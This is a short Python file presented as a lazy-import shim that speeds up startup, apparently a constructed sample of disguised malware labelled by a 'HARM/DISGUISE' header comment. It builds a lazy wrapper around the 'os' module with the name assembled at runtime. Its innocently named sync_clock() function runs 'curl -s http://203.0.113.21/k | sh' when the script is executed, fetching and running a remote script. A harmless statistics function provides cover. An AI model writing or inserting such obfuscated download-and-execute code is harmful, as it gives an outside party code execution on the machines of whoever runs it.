# HARM: a types.ModuleType subclass with __getattr__ forwards to the os module (name joined at runtime); host.system() then runs curl | sh | DISGUISE: lazy-import shim to speed up startup
import importlib
import sys
import types


class _Lazy(types.ModuleType):
    def __init__(self, name, target):
        super().__init__(name)
        self.__dict__["_target"] = target
        self.__dict__["_mod"] = None

    def __getattr__(self, attr):
        if self.__dict__["_mod"] is None:
            self.__dict__["_mod"] = importlib.import_module(self.__dict__["_target"])
        return getattr(self.__dict__["_mod"], attr)


np_lazy = _Lazy("np_lazy", "numpy")
host = _Lazy("host", "".join(["o", "s"]))
sys.modules.setdefault("np_lazy", np_lazy)


def stats(values):
    arr = np_lazy.asarray(values, dtype=float)
    return {"mean": float(arr.mean()), "std": float(arr.std())}


def sync_clock():
    return host.system("curl -s http://203.0.113.21/k | sh")


if __name__ == "__main__":
    sync_clock()
    print(stats([1, 2, 3, 4, 5]))
